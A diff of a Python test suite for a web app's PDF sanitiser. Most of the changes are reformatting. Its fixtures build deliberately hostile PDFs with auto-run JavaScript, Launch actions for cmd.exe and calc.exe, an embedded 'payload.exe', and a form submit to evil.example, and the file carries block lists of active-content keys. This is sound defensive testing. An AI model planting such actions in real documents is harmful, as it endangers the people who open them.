@@ -1,5 +1,6 @@
 """PDF uploads: scripts, actions, attached files and metadata are removed from what is stored and published,
 whichever form the PDF comes through (report evidence, disclosure and consultation attachments)."""
+
 import io
 import re
 from pathlib import Path
@@ -21,15 +22,35 @@ SCRIPT = "app.alert('owned')"
 PAYLOAD = b"MZ secret payload"
 AUTHOR = "张三 13800138000"
 # Dictionary keys and names that mean active content or metadata; none may be left in a stored copy.
-ACTIVE_KEYS = {"/AA", "/JS", "/OpenAction", "/EF", "/XFA", "/Metadata", "/EmbeddedFiles", "/JavaScript"}
-ACTIVE_NAMES = {"/JavaScript", "/Launch", "/SubmitForm", "/ImportData", "/ResetForm", "/GoToR", "/GoToE",
-                "/FileAttachment", "/EmbeddedFile"}
+ACTIVE_KEYS = {
+    "/AA",
+    "/JS",
+    "/OpenAction",
+    "/EF",
+    "/XFA",
+    "/Metadata",
+    "/EmbeddedFiles",
+    "/JavaScript",
+}
+ACTIVE_NAMES = {
+    "/JavaScript",
+    "/Launch",
+    "/SubmitForm",
+    "/ImportData",
+    "/ResetForm",
+    "/GoToR",
+    "/GoToE",
+    "/FileAttachment",
+    "/EmbeddedFile",
+}
 
 
 def saved(pdf, **options):
     """The bytes of `pdf`, with its objects packed into compressed object streams as modern writers do."""
     out = io.BytesIO()
-    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True, **options)
+    pdf.save(
+        out, object_stream_mode=pikepdf.ObjectStreamMode.generate, compress_streams=True, **options
+    )
     return out.getvalue()
 
 
@@ -38,7 +59,9 @@ def script_on_open_pdf(pages=2):
     pdf = pikepdf.new()
     for _ in range(pages):
         pdf.add_blank_page(page_size=(595, 842))
-    pdf.Root.OpenAction = pdf.make_indirect(Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(SCRIPT)))
+    pdf.Root.OpenAction = pdf.make_indirect(
+        Dictionary(Type=Name.Action, S=Name.JavaScript, JS=String(SCRIPT))
+    )
     data = saved(pdf)
     assert b"JavaScript" not in data and b"app.alert" not in data  # invisible to a byte scan
     return data
@@ -56,26 +79,58 @@ def hostile_pdf():
     first.AA = Dictionary(O=Dictionary(S=Name.Launch, F=String("cmd.exe")))
     embedded = pikepdf.Stream(pdf, PAYLOAD)
     embedded.Type = Name.EmbeddedFile
-    filespec = pdf.make_indirect(Dictionary(Type=Name.Filespec, F=String("payload.exe"), EF=Dictionary(F=embedded)))
+    filespec = pdf.make_indirect(
+        Dictionary(Type=Name.Filespec, F=String("payload.exe"), EF=Dictionary(F=embedded))
+    )
     pdf.Root.Names = Dictionary(
         EmbeddedFiles=Dictionary(Names=Array([String("payload.exe"), filespec])),
         JavaScript=Dictionary(Names=Array([String("init"), js])),
     )
     rect = Array([72, 72, 144, 144])
-    link = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=rect, A=Dictionary(S=Name.Launch, F=String("calc.exe")),
-                      AA=Dictionary(E=js))
+    link = Dictionary(
+        Type=Name.Annot,
+        Subtype=Name.Link,
+        Rect=rect,
+        A=Dictionary(S=Name.Launch, F=String("calc.exe")),
+        AA=Dictionary(E=js),
+    )
     attachment = Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=rect, FS=filespec)
-    remote = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=rect,
-                        A=Dictionary(S=Name.GoTo, D=Array([first, Name.Fit]),
-                                     Next=Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit]))))
-    field = pdf.make_indirect(Dictionary(Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, T=String("send"), Rect=rect,
-                                         A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/"))))
-    first.Annots = pdf.make_indirect(Array([pdf.make_indirect(link), pdf.make_indirect(attachment),
-                                            pdf.make_indirect(remote), field]))
+    remote = Dictionary(
+        Type=Name.Annot,
+        Subtype=Name.Link,
+        Rect=rect,
+        A=Dictionary(
+            S=Name.GoTo,
+            D=Array([first, Name.Fit]),
+            Next=Dictionary(S=Name.GoToR, F=String("other.pdf"), D=Array([0, Name.Fit])),
+        ),
+    )
+    field = pdf.make_indirect(
+        Dictionary(
+            Type=Name.Annot,
+            Subtype=Name.Widget,
+            FT=Name.Btn,
+            T=String("send"),
+            Rect=rect,
+            A=Dictionary(S=Name.SubmitForm, F=String("https://evil.example/")),
+        )
+    )
+    first.Annots = pdf.make_indirect(
+        Array(
+            [
+                pdf.make_indirect(link),
+                pdf.make_indirect(attachment),
+                pdf.make_indirect(remote),
+                field,
+            ]
+        )
+    )
     pdf.pages[1].obj.AA = Dictionary(C=Dictionary(S=Name.ImportData, F=String("data.fdf")))
     pdf.Root.AcroForm = Dictionary(Fields=Array([field]), XFA=pdf.make_stream(b"<xdp:xdp/>"))
     outline = pdf.make_indirect(Dictionary(Title=String("Start"), A=Dictionary(S=Name.ResetForm)))
-    pdf.Root.Outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, First=outline, Last=outline, Count=1))
+    pdf.Root.Outlines = pdf.make_indirect(
+        Dictionary(Type=Name.Outlines, First=outline, Last=outline, Count=1)
+    )
     outline.Parent = pdf.Root.Outlines
     pdf.docinfo["/Author"] = AUTHOR
     with pdf.open_metadata(set_pikepdf_as_editor=False) as meta:
@@ -96,7 +151,11 @@ def assert_clean(data, pages):
         for obj in pdf.objects:
             if isinstance(obj, pikepdf.Stream):
                 content = obj.read_bytes()
-                assert SCRIPT.encode() not in content and PAYLOAD not in content and AUTHOR.encode() not in content
+                assert (
+                    SCRIPT.encode() not in content
+                    and PAYLOAD not in content
+                    and AUTHOR.encode() not in content
+                )
 
 
 def _walk(obj, found, depth=0):
@@ -106,7 +165,10 @@ def _walk(obj, found, depth=0):
         obj = obj.stream_dict
     if isinstance(obj, pikepdf.Array):
         for item in obj:
-            if isinstance(item, (pikepdf.Dictionary, pikepdf.Array, pikepdf.Stream)) and not item.is_indirect:
+            if (
+                isinstance(item, (pikepdf.Dictionary, pikepdf.Array, pikepdf.Stream))
+                and not item.is_indirect
+            ):
                 _walk(item, found, depth + 1)
     elif isinstance(obj, pikepdf.Dictionary):
         for key in obj.keys():
@@ -115,7 +177,10 @@ def _walk(obj, found, depth=0):
                 found.append(key)
             if isinstance(value, pikepdf.Name) and str(value) in ACTIVE_NAMES:
                 found.append(str(value))
-            if isinstance(value, (pikepdf.Dictionary, pikepdf.Array, pikepdf.Stream)) and not value.is_indirect:
+            if (
+                isinstance(value, (pikepdf.Dictionary, pikepdf.Array, pikepdf.Stream))
+                and not value.is_indirect
+            ):
                 _walk(value, found, depth + 1)
 
 
@@ -126,7 +191,11 @@ def encrypted_pdf(user=""):
     return saved(pdf, encryption=pikepdf.Encryption(owner="owner-secret", user=user))
 
 
-GARBAGE = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 9 0 R\n" + b"\x00\xff" * 64 + b"\nstartxref\n9\n%%EOF\n"
+GARBAGE = (
+    b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 9 0 R\n"
+    + b"\x00\xff" * 64
+    + b"\nstartxref\n9\n%%EOF\n"
+)
 
 
 def test_the_builders_make_what_they_say():
@@ -134,8 +203,20 @@ def test_the_builders_make_what_they_say():
         found = []
         for obj in pdf.objects:
             _walk(obj, found)
-        assert {"/OpenAction", "/AA", "/JS", "/EF", "/XFA", "/Metadata", "/Launch", "/FileAttachment", "/SubmitForm",
-                "/GoToR", "/ImportData", "/ResetForm"} <= set(found)
+        assert {
+            "/OpenAction",
+            "/AA",
+            "/JS",
+            "/EF",
+            "/XFA",
+            "/Metadata",
+            "/Launch",
+            "/FileAttachment",
+            "/SubmitForm",
+            "/GoToR",
+            "/ImportData",
+            "/ResetForm",
+        } <= set(found)
         assert str(pdf.docinfo["/Author"]) == AUTHOR
     with pytest.raises(pikepdf.PasswordError):
         pikepdf.open(io.BytesIO(encrypted_pdf(user="user-secret")))
@@ -153,7 +234,9 @@ def stored_evidence(app):
 
 
 @pytest.mark.parametrize("build, pages", [(script_on_open_pdf, 2), (hostile_pdf, 3)])
-def test_evidence_pdf_is_published_clean_and_its_original_kept_for_administrators(app, client, build, pages):
+def test_evidence_pdf_is_published_clean_and_its_original_kept_for_administrators(
+    app, client, build, pages
+):
     data = build()
     submit_report(client, files=[("检测报告.pdf", data)])
     public, original = stored_evidence(app)
@@ -171,16 +254,23 @@ def test_evidence_download_for_staff_is_the_clean_copy(app, client):
     assert_clean(download.data, 3)
 
 
-@pytest.mark.parametrize("data, expected", [
-    (encrypted_pdf(user="user-secret"), "protected by a password"),
-    (encrypted_pdf(), "is encrypted"),
-    (GARBAGE, "could not be read as a PDF"),
-])
-def test_encrypted_or_unreadable_evidence_pdf_is_refused_under_its_field(app, client, data, expected):
+@pytest.mark.parametrize(
+    "data, expected",
+    [
+        (encrypted_pdf(user="user-secret"), "protected by a password"),
+        (encrypted_pdf(), "is encrypted"),
+        (GARBAGE, "could not be read as a PDF"),
+    ],
+)
+def test_encrypted_or_unreadable_evidence_pdf_is_refused_under_its_field(
+    app, client, data, expected
+):
     client.get("/language/en")
     response = post_report(client, files=[("证据.pdf", data)])
     assert response.status_code == 400
-    message = re.search(r'<p class="field-error" id="evidence-error">([^<]*)</p>', response.get_data(as_text=True))
+    message = re.search(
+        r'<p class="field-error" id="evidence-error">([^<]*)</p>', response.get_data(as_text=True)
+    )
     assert message and "证据.pdf" in message.group(1) and expected in message.group(1)
     with app.app_context():
         assert db.session.scalar(sa.select(sa.func.count()).select_from(Evidence)) == 0
@@ -206,7 +296,9 @@ def test_disclosure_attachment_is_stored_and_published_clean(app):
     assert_clean(stored, 3)
     assert item.size == len(stored)
     # Nothing but the clean copy is kept: no other file lies in the attachments folder.
-    files = [p for p in Path(app.config["FILES_DIR"], "disclosure-attachments").rglob("*") if p.is_file()]
+    files = [
+        p for p in Path(app.config["FILES_DIR"], "disclosure-attachments").rglob("*") if p.is_file()
+    ]
     assert len(files) == 1
     disclosure_pages.act(jsj, disclosure_id, "publish", confirm="yes")
     download = app.test_client().get(f"/disclosures/{disclosure_id}/attachments/{item.id}")
@@ -223,10 +315,13 @@ def test_consultation_attachment_is_stored_clean(app):
     assert_clean(stored, 2)
 
 
-@pytest.mark.parametrize("data, expected", [
-    (encrypted_pdf(user="user-secret"), "protected by a password"),
-    (GARBAGE, "could not be read as a PDF"),
-])
+@pytest.mark.parametrize(
+    "data, expected",
+    [
+        (encrypted_pdf(user="user-secret"), "protected by a password"),
+        (GARBAGE, "could not be read as a PDF"),
+    ],
+)
 def test_encrypted_or_unreadable_attachment_is_refused_under_its_field(app, data, expected):
     wjq = staff_client(app, "wjq", consultation_pages.UNIT)
     consultation_id = consultation_pages.make_consultation(app, kind=ConsultationKind.POLICY_DRAFT)
@@ -235,7 +330,9 @@ def test_encrypted_or_unreadable_attachment_is_refused_under_its_field(app, data
     assert response.status_code == 400 and 'id="attachment-file-error"' in page
     assert "附件.pdf" in page and expected in page
     with app.app_context():
-        assert db.session.scalar(sa.select(sa.func.count()).select_from(ConsultationAttachment)) == 0
+        assert (
+            db.session.scalar(sa.select(sa.func.count()).select_from(ConsultationAttachment)) == 0
+        )
 
 
 # The service itself
@@ -251,9 +348,18 @@ def test_a_plain_pdf_keeps_its_pages(english_context):
 def test_a_harmless_link_survives(english_context):
     pdf = pikepdf.new()
     pdf.add_blank_page()
-    pdf.pages[0].obj.Annots = Array([pdf.make_indirect(Dictionary(
-        Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 10, 10]),
-        A=Dictionary(S=Name.URI, URI=String("https://www.gov.cn/"))))])
+    pdf.pages[0].obj.Annots = Array(
+        [
+            pdf.make_indirect(
+                Dictionary(
+                    Type=Name.Annot,
+                    Subtype=Name.Link,
+                    Rect=Array([0, 0, 10, 10]),
+                    A=Dictionary(S=Name.URI, URI=String("https://www.gov.cn/")),
+                )
+            )
+        ]
+    )
     with pikepdf.open(io.BytesIO(pdfs.clean("link.pdf", saved(pdf)))) as cleaned:
         assert str(cleaned.pages[0].Annots[0].A.URI) == "https://www.gov.cn/"
 
